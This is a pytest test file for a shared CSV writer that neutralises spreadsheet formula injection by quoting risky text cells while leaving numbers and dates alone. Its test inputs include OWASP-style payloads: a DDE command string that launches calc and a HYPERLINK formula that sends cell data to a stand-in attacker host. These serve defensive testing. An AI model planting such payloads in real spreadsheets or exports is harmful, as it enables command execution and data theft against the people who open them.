"""The shared CSV writer (partner_model.exports): text never runs as a spreadsheet formula, numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pandas as pd
import pytest

from partner_model.exports import FORMULA_STARTS, csv_bytes, safe_cell, safe_text

# OWASP's examples of formula injection, and the characters that hide one.
HOSTILE = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "\t=1+1",
    "\0=1+1",
]


def _rows(data: bytes, sep: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=sep))


@pytest.mark.parametrize("value", HOSTILE)
def test_text_starting_a_formula_gets_a_single_quote_in_front(value):
    assert safe_cell(value) == "'" + value
    assert safe_text(value) == "'" + value


def test_a_carriage_return_in_front_is_quoted_and_so_is_the_formula_after_it():
    # A carriage return is also a line break: a reader splitting lines there would start a cell with "=1+1".
    assert safe_cell("\r=1+1") == "'\r'=1+1"


def test_every_formula_start_is_covered():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r", "\0"}
    for start in FORMULA_STARTS:
        assert safe_text(start + "x").startswith("'" + start)


@pytest.mark.parametrize("value", [
    "Acme Oy", "", "Smith-Jones GmbH", "billing@acme.example", "50% off", "A+B Consulting", "Foo, Bar",
    "trial, -3 days left", "Åbo Säkerhet Öy", "東京株式会社", "'=already quoted",
])
def test_ordinary_text_is_left_as_it_is(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(("value", "safe"), [
    ("Acme,=1+1", "Acme,'=1+1"),      # a spreadsheet splitting on commas starts a cell at "="
    ("Acme;@SUM(1+1)", "Acme;'@SUM(1+1)"),  # and one splitting on semicolons
    ("Acme\n-1+1", "Acme\n'-1+1"),    # and a line break starts a row
    ("=1+1;=2+2", "'=1+1;'=2+2"),
])
def test_a_formula_start_after_a_separator_inside_the_text_is_quoted_too(value, safe):
    assert safe_cell(value) == safe


@pytest.mark.parametrize("value", [Decimal("-800.00"), Decimal("12345.67"), -5, 0, 3.5, -1.25, None, True,
                                   dt.date(2026, 3, 1)])
def test_numbers_dates_and_missing_values_are_not_text(value):
    assert safe_cell(value) is value


def _frame() -> pd.DataFrame:
    return pd.DataFrame({
        "id": [1, 2, 3],
        "name": ["=1+1", "Acme, Oy", None],
        "amount": [Decimal("-800.00"), Decimal("12345.67"), None],
        "rate": [0.25, -1.5, float("nan")],
        "days": pd.array([-3, None, 7], dtype="Int64"),
        "on": [dt.date(2026, 3, 1), None, dt.date(2027, 3, 1)],
    })


def test_csv_quotes_text_only_and_writes_numbers_as_numbers():
    data = csv_bytes(_frame())
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.splitlines()[1] == "1,'=1+1,-800.00,0.25,-3,2026-03-01"  # -800.00 and -3 are not quoted
    assert _rows(data) == [
        ["id", "name", "amount", "rate", "days", "on"],
        ["1", "'=1+1", "-800.00", "0.25", "-3", "2026-03-01"],
        ["2", "Acme, Oy", "12345.67", "-1.5", "", ""],
        ["3", "", "", "", "7", "2027-03-01"],
    ]
    assert text.endswith("\n") and "\r" not in text


def test_csv_with_a_decimal_comma_separates_columns_with_semicolons():
    data = csv_bytes(_frame(), sep=";", decimal=",", bom=False)
    assert not data.startswith(b"\xef\xbb\xbf")
    assert _rows(data, ";")[1:3] == [["1", "'=1+1", "-800,00", "0,25", "-3", "2026-03-01"],
                                     ["2", "Acme, Oy", "12345,67", "-1,5", "", ""]]


def test_text_holding_the_separator_or_a_quote_is_quoted_as_rfc_4180_says():
    frame = pd.DataFrame({"name": ['Say "hi", Oy', "a;b", "line\nbreak"]})
    assert csv_bytes(frame, bom=False).decode() == 'name\n"Say ""hi"", Oy"\na;b\n"line\nbreak"\n'
    semicolons = csv_bytes(frame, sep=";", decimal=",", bom=False).decode()
    assert semicolons == 'name\n"Say ""hi"", Oy"\n"a;b"\n"line\nbreak"\n'


def test_a_carriage_return_is_quoted_too():
    # Python's csv module (and so pandas) leaves it bare: spreadsheets would break the row there.
    frame = pd.DataFrame({"name": ["a\rb"], "n": [1]})
    assert csv_bytes(frame, bom=False).decode() == 'name,n\n"a\rb",1\n'


def test_a_row_of_one_empty_cell_is_not_an_empty_line():
    frame = pd.DataFrame({"name": ["a", "", None]})
    assert csv_bytes(frame, bom=False) == frame.to_csv(index=False).encode() == b'name\na\n""\n""\n'


def test_headings_are_cells_too():
    assert csv_bytes(pd.DataFrame({"=cmd": [1]}), bom=False).decode() == "'=cmd\n1\n"


def test_text_columns_of_every_kind_are_made_safe():
    for dtype in (object, "string", "str"):
        frame = pd.DataFrame({"name": pd.Series(["=1+1", None, "ok", "x,-1"], dtype=dtype)})
        assert _rows(csv_bytes(frame))[1:] == [["'=1+1"], [""], ["ok"], ["x,'-1"]], dtype


def test_a_safe_frame_is_written_exactly_as_pandas_wrote_it():
    # The downloads that existed before the shared writer keep every byte.
    frame = _frame().assign(name=["Acme", "Beta, Oy", None])
    assert csv_bytes(frame, bom=False) == frame.to_csv(index=False, lineterminator="\n").encode()


def test_an_empty_frame_has_its_headings():
    assert csv_bytes(pd.DataFrame({"a": [], "b": []}), bom=False) == b"a,b\n"


def test_the_separator_cannot_be_the_decimal_point():
    with pytest.raises(ValueError):
        csv_bytes(_frame(), sep=",", decimal=",")
